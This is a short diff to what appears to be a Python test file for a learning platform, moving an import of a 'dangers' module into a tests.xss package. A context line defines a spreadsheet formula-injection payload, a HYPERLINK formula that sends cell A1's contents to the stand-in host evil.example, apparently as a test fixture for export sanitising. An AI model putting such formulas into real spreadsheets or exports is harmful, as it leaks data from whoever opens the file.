@@ -17,7 +17,7 @@ from knet.db import db
 from knet.errors import Forbidden
 from learning import dashboard, progress, quizzes, structure, versions
 from learning.structure import OptionInput, QuestionInput
-from tests.qa.test_routes import dangers
+from tests.xss import dangers
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Κάντε κλικ")'
 
